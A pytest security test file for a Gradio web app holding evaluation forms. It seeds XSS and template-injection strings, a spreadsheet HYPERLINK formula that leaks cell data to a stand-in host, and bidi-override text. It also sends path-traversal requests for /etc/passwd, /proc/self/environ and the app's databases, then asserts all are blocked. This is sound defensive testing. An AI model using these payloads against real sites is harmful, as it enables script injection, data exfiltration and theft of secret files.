"""Documents and visitors that mean harm: texts with code in them, formulas, and requests for files that are not theirs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx2 as httpx
import openpyxl
import pytest
from playwright.sync_api import Dialog, Page, expect

from schema.canonical import to_json
from schema.form import Form
from schema.identity import with_ids
from store import Store
from store.export import export
from tests.factories import D, make_form, make_indicator, sha
from tests.ui.web.conftest import Running
from ui.web.accounts import add_account

RunSite = Callable[..., Running]
CODE = (
    "{{7*7}}${7*7}<%=7*7%><script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\"><svg onload=window.hacked=1>"
    "<a href=\"javascript:window.hacked=1\">点</a><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>'\"`</textarea></title>"
)  # fmt: skip
TURNED = "\u202e\u2066款付已\u2069\u202c"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"点")'
LONG = "很长" * 5000
TRACES = 'img[src="x"], a[href^="javascript" i], iframe, [onerror], svg[onload]'
PAGES = (
    "/",
    "/form?id={id}",
    "/form?id={id}&cell=indicators%5B0%5D.deviation",
    "/findings",
    "/review",
    "/analysis",
    "/import",
    "/evaluation",
)
PATIENCE = 20_000
"""Milliseconds a page may take on a machine that does other things, too."""


def _forms() -> tuple[Form, ...]:
    rows = (
        make_indicator(0, name=CODE, score=D(3), deviation=CODE),
        make_indicator(1, level1=CODE, level2=TURNED, target=FORMULA, actual="@SUM(1+1)", score=D(4), deviation=FORMULA),
        make_indicator(2, name=LONG, deviation=LONG, score=D(1)),
    )
    texts: dict[str, Any] = {
        "department": CODE,
        "implementing_unit": TURNED + CODE,
        "expected_goal": CODE,
        "actual_result": LONG,
        "grade": CODE,
    }
    forms = [make_form(f"{CODE}甲", indicators=rows, **texts), make_form(FORMULA, indicators=rows, title=CODE, unit_of_money=CODE)]
    return with_ids(forms, sha("hostile"))


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Path]:
    home = tmp_path / "hostile"
    file = tmp_path / "<img src=x onerror='window.hacked=1'>.json"
    file.write_text(json.dumps([to_json(form) for form in _forms()], ensure_ascii=False), encoding="utf-8")
    with Store.open(home) as store:
        store.import_forms(_forms(), file)
    yield home


def _settled(tab: Page) -> None:
    """Until the page has shown what it has to show; its connection to the server stays open, so the network is never idle."""
    tab.wait_for_function("(document.querySelector('.gradio-container main')?.innerText ?? '').length > 40", timeout=PATIENCE)
    tab.wait_for_timeout(800)


def _harmless(tab: Page) -> None:
    assert tab.evaluate("window.hacked") is None
    assert tab.locator(TRACES).count() == 0
    assert "4949" not in tab.locator("body").inner_text()


@pytest.mark.slow
def test_texts_with_code_in_them_stay_texts_on_every_page(run_site: RunSite, hostile: Path, tab: Page) -> None:
    running = run_site(hostile)
    dialogs: list[str] = []

    def met(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    tab.on("dialog", met)
    for path in PAGES:
        tab.goto(running.url + path.format(id=_forms()[0].form_id))
        _settled(tab)
        _harmless(tab)
    tab.goto(f"{running.url}/analysis")
    expect(tab.locator("#analysis-departments .js-plotly-plot").first).to_be_visible(timeout=PATIENCE)
    expect(tab.locator("#analysis-departments .yaxislayer-above")).to_contain_text("{{7*7}}${7*7}")
    expect(tab.locator("#analysis-levels .js-plotly-plot")).to_be_visible(timeout=PATIENCE)
    _harmless(tab)
    tab.goto(f"{running.url}/analysis?department={quote(CODE)}&unit={quote(CODE)}&year={quote(CODE)}")
    expect(tab.get_by_text("没有符合条件的表单")).to_be_visible(timeout=PATIENCE)
    _harmless(tab)
    assert dialogs == []


def test_answers_show_code_as_text(run_site: RunSite, hostile: Path, tab: Page) -> None:
    running = run_site(hostile)
    tab.goto(f"{running.url}/ask")
    box = tab.get_by_role("textbox").first
    for question in ("列出所有扣分的指标和偏差原因", CODE):
        box.fill(question)
        box.press("Enter")
        _settled(tab)
        _harmless(tab)


def test_formulas_stay_texts_in_every_file(run_site: RunSite, hostile: Path, tmp_path: Path) -> None:
    running = run_site(hostile)
    for key in ("rates", "departments", "levels", "grades"):
        sheet = openpyxl.load_workbook(io.BytesIO(_file(running, f"{key}.xlsx"))).active
        assert sheet is not None
        assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
        rows = csv.reader(io.StringIO(_file(running, f"{key}.csv").decode("utf-8-sig")))
        assert not [cell for row in rows for cell in row if re.match(r"[=@\t\r]", cell)]
    whole = tmp_path / "all.xlsx"
    export(running.site.store, "xlsx", whole)
    cells = [cell for sheet in openpyxl.load_workbook(whole) for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == FORMULA for cell in cells)
    assert not [cell for cell in cells if cell.data_type == "f"]


def _file(running: Running, name: str) -> bytes:
    answer = httpx.get(f"{running.url}/jihe/analysis/{name}")
    assert answer.status_code == 200, answer.text
    return answer.content


GRADIO = (
    "/gradio_api/info", "/gradio_api/stream/x/y/z", "/gradio_api/file/etc/passwd", "/gradio_api/file=http://127.0.0.1:1/", "/monitoring",
    "/monitoring/x", "/monitoring/summary", "/gradio_api/startup-events", "/gradio_api/app_id", "/theme.css",
    "/gradio_api/custom_component/x/client/component/index.js", "/gradio_api/proxy=http://127.0.0.1:1/", "/static/../serve.py",
    "/assets/..%2f..%2fserve.py", "/svelte/..%2f..%2froutes.py", "/gradio_api/deep_link", "/robots.txt", "/manifest.json",
    "/user", "/token",
)  # fmt: skip


@pytest.fixture
def people(tmp_path: Path) -> Path:
    file = tmp_path / "people"
    add_account(file, "li", "correct horse")
    add_account(file, "wang", "battery staple")
    return file


def test_gradios_own_addresses_are_closed_to_strangers(run_site: RunSite, hostile: Path, people: Path) -> None:
    running = run_site(hostile, accounts=people)
    for path in GRADIO:
        assert httpx.get(running.url + path).status_code == 401, path
    for path in ("/gradio_api/queue/join", "/gradio_api/upload", "/gradio_api/reset", "/gradio_api/component_server", "/gradio_api/call/x"):
        assert httpx.post(running.url + path, json={}).status_code == 401, path


def test_gradios_own_addresses_give_no_files_away(run_site: RunSite, hostile: Path, people: Path) -> None:
    running = run_site(hostile, accounts=people)
    with _logged_in(running, "li", "correct horse") as li:
        for path in GRADIO:
            answer = li.get(running.url + path)
            assert answer.status_code < 500, path
            assert "root:" not in answer.text
            assert "def build" not in answer.text
        for file in (hostile / "jihe.db", hostile / "threads.db", people, Path(__file__), Path("/proc/self/environ")):
            for written in (str(file), quote(str(file), safe=""), f"{hostile}/../{file.name}", f"./{file.name}"):
                assert li.get(f"{running.url}/gradio_api/file={written}").status_code in (403, 404), written


def test_uploads_are_not_handed_out(run_site: RunSite, hostile: Path, people: Path) -> None:
    running = run_site(hostile, accounts=people)
    with _logged_in(running, "li", "correct horse") as li, _logged_in(running, "wang", "battery staple") as wang:
        answer = li.post(f"{running.url}/gradio_api/upload", files={"files": ("../../../etc/secret.html", b"<script>1</script>")})
        assert answer.status_code == 200, answer.text
        (path,) = answer.json()
        assert ".." not in path
        assert Path(path).name.endswith("secret.html")
        folder, _, name = path.rpartition("/")
        for written in (path, quote(path, safe=""), f"{folder}/x/../{name}", f"/{path}"):
            for start in ("/gradio_api/file=", "/gradio_api/file/", "/file="):
                # Not even its owner needs it back.
                assert {who.get(running.url + start + written).status_code for who in (li, wang)} <= {403, 404}, (start, written)


@contextmanager
def _logged_in(running: Running, name: str, password: str) -> Iterator[httpx.Client]:
    with httpx.Client(timeout=PATIENCE / 1000) as client:
        assert client.post(f"{running.url}/login", data={"username": name, "password": password}).status_code == 200
        yield client
